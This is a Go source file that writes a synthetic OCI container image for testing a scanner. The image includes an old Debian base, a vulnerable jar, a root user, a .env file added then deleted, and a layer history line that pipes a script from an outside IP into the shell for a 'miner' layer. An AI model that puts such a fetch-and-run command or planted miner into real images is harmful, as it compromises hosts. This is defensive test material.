// Package demo writes a small OCI layout to look at and to test with: an old
// Debian, a nested vulnerable jar, a Go binary, and one threat of each kind. It needs no network: the
// packages are database entries, the jars hold only what names them, and the
// binary is compiled from the source below.
package demo

import (
	"fmt"
	"os"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// created is fixed so that the image has the same digest every time.
var created = v1.Time{Time: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}

// instruction is one line of the imaginary Dockerfile and the files it makes.
type instruction struct {
	createdBy string
	files     func() (map[string][]byte, error)
}

// Write makes the layout in dir, replacing what is there. The image is the same
// every time but for what the Go toolchain puts into the binary.
func Write(dir string) error {
	img, err := build([]instruction{
		{"/bin/sh -c #(nop) ADD file:debian-12.0.tar in / ", debian},
		{"COPY target/shop.war /usr/local/tomcat/webapps/ # buildkit", webApplication},
		{"COPY --from=build /out/gateway /usr/local/bin/gateway # buildkit", gateway},
		{"COPY node_modules /srv/front/node_modules # buildkit", frontEnd},
		{"COPY html /var/www/html # buildkit", website},
		{"RUN /bin/sh -c curl -fsSL http://203.0.113.7/tuning.sh | sh # buildkit", miner},
		{"COPY .env /srv/front/.env # buildkit", settings},
		{"RUN /bin/sh -c rm /srv/front/.env # buildkit", withoutSettings},
	})
	if err != nil {
		return err
	}
	if err := os.RemoveAll(dir); err != nil {
		return err
	}
	path, err := layout.Write(dir, empty.Index)
	if err != nil {
		return fmt.Errorf("write layout %s: %w", dir, err)
	}
	return path.AppendImage(img, layout.WithAnnotations(map[string]string{
		"org.opencontainers.image.ref.name": "demo:1",
	}))
}

func build(instructions []instruction) (v1.Image, error) {
	img := mutate.MediaType(empty.Image, types.OCIManifestSchema1)
	img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
	for _, in := range instructions {
		files, err := in.files()
		if err != nil {
			return nil, fmt.Errorf("make files of %q: %w", in.createdBy, err)
		}
		layer, err := packLayer(files)
		if err != nil {
			return nil, err
		}
		img, err = mutate.Append(img, mutate.Addendum{
			Layer: layer, MediaType: types.OCILayer,
			History: v1.History{Created: created, CreatedBy: in.createdBy},
		})
		if err != nil {
			return nil, err
		}
	}
	cf, err := img.ConfigFile()
	if err != nil {
		return nil, err
	}
	cf = cf.DeepCopy()
	cf.Architecture, cf.OS, cf.Created = "amd64", "linux", created
	cf.Config = v1.Config{Cmd: []string{"/usr/local/bin/gateway"}, User: "root"}
	return mutate.ConfigFile(img, cf)
}
